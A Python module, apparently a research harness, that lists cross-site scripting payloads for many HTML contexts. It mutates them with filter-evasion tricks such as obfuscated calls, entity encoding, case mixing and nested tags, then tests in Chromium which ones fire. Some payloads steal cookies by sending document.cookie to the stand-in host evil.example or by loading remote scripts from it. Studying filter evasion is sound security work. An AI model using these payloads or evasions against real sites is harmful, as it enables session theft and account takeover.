"""Cross-site scripting: payloads, mutations, and what Chromium runs of them.

Each is put where its context says, into a page of its own; it lives if a dialog is asked
for, or a host of somebody else, after every element was clicked, focused and pointed at.
"""

from __future__ import annotations

import json
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path

from text import PROSE, fixed, mixed

TEMPLATES = {
    "element": "<div>{}</div>",
    "double": '<input value="{}">',
    "single": "<input value='{}'>",
    "bare": "<input value={}>",
    "script single": "<script>var q = '{}';</script>",
    "script double": '<script>var q = "{}";</script>',
    "href": '<a href="{}">back</a>',
    "textarea": "<textarea>{}</textarea>",
    "title": "<title>{}</title>",
    "comment": "<!-- {} -->",
    # a filter that takes `<script>` and `</script>` away, once
    "filtered": "<div>{}</div>",
}
HERE = Path(__file__).parent

BASES = [
    ("element", "<script>alert(1)</script>"),
    ("element", "<script>alert(document.cookie)</script>"),
    ("element", "<script>confirm(1)</script>"),
    ("element", "<script src=//evil.example/x.js></script>"),
    ("element", "<img src=x onerror=alert(1)>"),
    ("element", "<svg onload=alert(1)>"),
    ("element", "<body onload=alert(1)>"),
    ("element", "<iframe src=javascript:alert(1)></iframe>"),
    ("element", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("element", "<details open ontoggle=alert(1)>x</details>"),
    ("element", "<video src=x onerror=alert(1)></video>"),
    ("element", "<audio src=x onerror=alert(1)></audio>"),
    ("element", "<video><source src=x onerror=alert(1)></video>"),
    ("element", "<input autofocus onfocus=alert(1)>"),
    ("element", "<select autofocus onfocus=alert(1)></select>"),
    ("element", "<textarea autofocus onfocus=alert(1)></textarea>"),
    ("element", "<a href=javascript:alert(1)>x</a>"),
    ("element", "<a onmouseover=alert(1)>x</a>"),
    ("element", "<div onclick=alert(1)>x</div>"),
    ("element", "<form action=javascript:alert(1)><input type=submit></form>"),
    ("element", "<form><button formaction=javascript:alert(1)>x</button></form>"),
    ("element", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"),
    ("element", "<svg><set onbegin=alert(1) attributeName=x></svg>"),
    ("element", "<svg><script>alert(1)</script></svg>"),
    (
        "element",
        "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)></b>",
    ),
    ("element", "<object data=/none onerror=alert(1)></object>"),
    ("element", "<link rel=stylesheet href=//evil.example/x.css>"),
    ("element", "<img src=x onerror=\"fetch('//evil.example/?c='+document.cookie)\">"),
    ("element", "<script>new Image().src='//evil.example/?c='+document.cookie</script>"),
    ("element", "<script>location='//evil.example/?c='+document.cookie</script>"),
    ("element", "<script>eval('ale'+'rt(1)')</script>"),
    ("element", "<script>setTimeout('alert(1)')</script>"),
    ("element", "<body onpageshow=alert(1)>"),
    ("element", "<base href=//evil.example/><script src=x.js></script>"),
    ("element", "<button onclick=alert(1)>x</button>"),
    ("element", "<p onpointerover=alert(1)>x</p>"),
    ("element", "<img src=/a.png onload=alert(1)>"),
    ("element", "<script type=module>alert(1)</script>"),
    ("double", '" onmouseover="alert(1)'),
    ("double", '" autofocus onfocus=alert(1) x="'),
    ("double", '"><script>alert(1)</script>'),
    ("double", '"><img src=x onerror=alert(1)>'),
    ("double", '"><svg onload=alert(1)>'),
    ("double", '"><iframe src=javascript:alert(1)>'),
    ("single", "' onmouseover='alert(1)"),
    ("single", "' autofocus onfocus='alert(1)"),
    ("single", "'><script>alert(1)</script>"),
    ("single", "'><img src=x onerror=alert(1)>"),
    ("bare", "x onmouseover=alert(1)"),
    ("bare", "x autofocus onfocus=alert(1)"),
    ("bare", "x><img src=x onerror=alert(1)>"),
    ("script single", "';alert(1);//"),
    ("script single", "'-alert(1)-'"),
    ("script single", "'+alert(document.domain)+'"),
    ("script single", "</script><script>alert(1)</script>"),
    ("script single", "</script><svg onload=alert(1)>"),
    ("script double", '";alert(1);//'),
    ("script double", '"-alert(1)-"'),
    ("script double", '"+alert(document.domain)+"'),
    ("href", "javascript:alert(1)"),
    ("href", "javascript:alert(document.cookie)"),
    ("href", '"><script>alert(1)</script>'),
    ("textarea", "</textarea><script>alert(1)</script>"),
    ("textarea", "</textarea><img src=x onerror=alert(1)>"),
    ("title", "</title><script>alert(1)</script>"),
    ("comment", "--><script>alert(1)</script>"),
    ("comment", "--><img src=x onerror=alert(1)>"),
]

CALL = re.compile(r"alert\(1\)")
HANDLER = re.compile(r"(\bon\w+)=")
VALUE = re.compile(r"(?<==)((?:javascript:)?alert\(1\))")
TAG = re.compile(r"(?<=<)/?(?!!)[a-z]+")
BLANK = re.compile(r"(?<=[a-z0-9/]) (?=[a-z]+[= ])")


def _as_entities(payload: str, form: str) -> str:
    return VALUE.sub(lambda found: "".join(form.format(ord(c)) for c in found[1]), payload)


def mutants(context: str, payload: str) -> Iterator[tuple[str, str]]:
    """What a payload becomes, by the name of the mutation."""
    calls = {
        "backticks for brackets": "alert`1`",
        "an optional call": "alert?.(1)",
        "a name in brackets": "self['alert'](1)",
        "a name in pieces": "window['al'+'ert'](1)",
        "escaped letters": "\\u0061lert(1)",
        "escaped letters in braces": "al\\u{65}rt(1)",
        "a string in hex": "self['\\x61lert'](1)",
        "eval of pieces": "eval('al'+'ert(1)')",
        "eval of base64": "eval(atob('YWxlcnQoMSk='))",
        "a constructed function": "Function('alert(1)')()",
        "a constructor's constructor": "[].constructor.constructor('alert(1)')()",
        "a callback": "[1].find(alert)",
        "a callback of map": "[1].map(alert)",
        "a timer": "setTimeout(alert)",
        "a regular expression's source": "top[/al/.source+/ert/.source](1)",
        "a comment inside": "alert/*x*/(1)",
        "brackets around": "(alert)(1)",
        "a comma before": "(0,alert)(1)",
        "an arrow": "(()=>{alert(1)})()",
        "call": "alert.call(null,1)",
        "apply": "alert.apply(null,[1])",
        "Reflect": "Reflect.apply(alert,null,[1])",
        "globalThis": "globalThis.alert(1)",
        "an array of names": "this[['al','ert'].join('')](1)",
        "prompt": "prompt(1)",
        "confirm": "confirm(1)",
        "print": "alert(document.domain)",
        "character codes": "eval(String.fromCharCode(97,108,101,114,116,40,49,41))",
        "base 36": "self[17795081..toString(36)](1)",
        "a promise": "Promise.resolve(1).then(alert)",
        "a getter": "({get x(){alert(1)}}).x",
        "tagged templates": "Function`alert\\x281\\x29```",
        "an exception": "{onerror=alert;throw 1}",
        "an import": "import('data:text/javascript,alert(1)')",
        "a variable": "x=alert;x(1)",
        "with": "with(self)alert(1)",
    }
    for name, call in calls.items():
        yield name, CALL.sub(fixed(call), payload)
    yield "tags in mixed case", TAG.sub(lambda f: mixed(f[0]), payload)
    yield "handlers in mixed case", HANDLER.sub(lambda f: mixed(f[1]) + "=", payload)
    yield (
        "all in mixed case",
        TAG.sub(lambda f: mixed(f[0]), HANDLER.sub(lambda f: mixed(f[1]) + "=", payload)).replace(
            "javascript:", "jAvAsCrIpT:"
        ),
    )
    for name, blank in (
        ("slashes", "/"),
        ("tabs", "\t"),
        ("line ends", "\n"),
        ("form feeds", "\f"),
        ("carriage returns", "\r"),
        ("many blanks", " / \n "),
    ):
        yield f"{name} for blanks", BLANK.sub(fixed(blank), payload)
    yield "blanks around the equals sign", HANDLER.sub(r"\1 = ", payload)
    yield "line ends around the equals sign", HANDLER.sub("\\1\n=\n", payload)
    yield "double quotes", VALUE.sub(r'"\1"', payload)
    yield "single quotes", VALUE.sub(r"'\1'", payload)
    for name, form in (
        ("decimal entities", "&#{};"),
        ("hex entities", "&#x{:x};"),
        ("padded entities", "&#{:07d};"),
        ("entities without semicolons", "&#{:07d}"),
    ):
        yield name, _as_entities(payload, form)
    yield (
        "named entities",
        VALUE.sub(
            lambda f: f[1].replace("(", "&lpar;").replace(")", "&rpar;").replace(":", "&colon;"),
            payload,
        ),
    )
    for name, scheme in (
        ("a tab in the scheme", "java\tscript:"),
        ("a line end in the scheme", "java\nscript:"),
        ("entities in the scheme", "java&#9;script&colon;"),
        ("named entities in the scheme", "java&Tab;script&#58;"),
        ("mixed case of the scheme", "JaVaScRiPt:"),
        ("a control before the scheme", "\x01javascript:"),
        ("a comment behind the scheme", "javascript://%0a"),
        ("escapes behind the scheme", "javascript:%20"),
        ("a label behind the scheme", "javascript:x:"),
    ):
        yield name, payload.replace("javascript:", scheme)
    yield (
        "percent escapes in the URL",
        payload.replace("javascript:alert(1)", "javascript:%61lert%281%29"),
    )
    yield "junk in the tag", re.sub(r"<(script|img|svg|iframe|input)\b", r"<\1/x", payload)
    yield (
        "an attribute before",
        re.sub(r"<(script|img|svg|iframe|input|a|body)\b", r"<\1 class=shoes", payload),
    )
    yield (
        "a quoted attribute before",
        re.sub(r"<(script|img|svg|iframe|input|a|body)\b", r'<\1 alt=">"', payload),
    )
    yield "a blank in the end tag", payload.replace("</script>", "</script >")
    yield "junk in the end tag", payload.replace("</script>", "</script x=y>")
    yield "a second bracket", re.sub(r"<(script|img|svg)", r"<<\1", payload, count=1)
    yield "the tag not closed", re.sub(r">$", " x", payload)
    yield (
        "the element not closed",
        re.sub(r"</\w+>$", "", payload) if context == "element" else payload,
    )
    yield "an unknown element", re.sub(r"<(a|div|p) on", "<shoes on", payload)
    yield "another element", re.sub(r"<(a|div|p) on", "<article hidden=0 on", payload)
    yield "in a table", f"<table><tr><td>{payload}" if payload.startswith("<") else payload
    yield "behind a comment", f"<!-- shoes -->{payload}" if payload.startswith("<") else payload
    yield (
        "in a list of harmless tags",
        f"<p>Hi <b>Ann</b></p>{payload}" if payload.startswith("<") else payload,
    )
    yield "a script's comment", payload.replace("<script>", "<script>/*shoes*/")
    yield "a script's HTML comment", payload.replace("<script>", "<script><!--\n")
    yield "a script's line end", payload.replace("<script>", "<script>\n\n")
    yield "a script's type", payload.replace("<script>", "<script type=text/javascript>")
    if context in ("element", "double", "single", "script single", "script double", "textarea"):
        yield "prose before", PROSE + payload
        yield "prose before, mixed case", PROSE + TAG.sub(lambda f: mixed(f[0]), payload)
    if context == "element":
        yield "prose after", payload + PROSE
        yield "prose around", PROSE + payload + PROSE


def filtered(text: str) -> str:
    """What a filter leaves that looks once."""
    return re.sub(r"</?script>", "", text, flags=re.I)


def extra() -> Iterator[tuple[str, str, str]]:
    """Mutants that live only where a filter looks once: base, name, payload."""
    base = "<script>alert(1)</script>"
    for name, text in (
        ("nested tags", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
        ("nested tags in mixed case", "<sCr<ScRiPt>iPt>alert(1)</sCr</sCrIpT>iPt>"),
        ("nested inside the first letter", "<s<script>cript>alert(1)</s</script>cript>"),
        ("a tag nested in another", "<im<script>g src=x onerror=alert(1)>"),
        ("a handler split by a tag", "<img src=x oner<script>ror=alert(1)>"),
        ("a scheme split by a tag", "<a href=javas<script>cript:alert(1)>x</a>"),
        ("an end tag nested", "<scr</script>ipt>alert(1)</scr</script>ipt>"),
    ):
        yield base, name, text


class Live:
    """One page of Chromium with many frames."""

    def __init__(self) -> None:
        self.engines = [self._run([])[1]]

    def _run(self, pages: list[str]) -> tuple[list[bool], str]:
        asked = ["node", str(HERE / "chromium.mjs")]
        ran = subprocess.run(  # noqa: S603 -- ours
            asked,
            input=json.dumps(pages),
            capture_output=True,
            text=True,
            check=False,
            timeout=300,
        )
        if ran.returncode:
            raise SystemExit(f"evasion: {ran.stderr}")
        said = json.loads(ran.stdout)
        return said["fired"], said["version"]

    def check(self, cases: list[tuple[str, str, str]]) -> list[bool]:
        """Of each context, base and mutant: whether the mutant fires."""
        pages = [
            TEMPLATES[context].replace("{}", filtered(mutant) if context == "filtered" else mutant)
            for context, _, mutant in cases
        ]
        return self._run(pages)[0]

    def close(self) -> None:
        """The browser is gone already."""
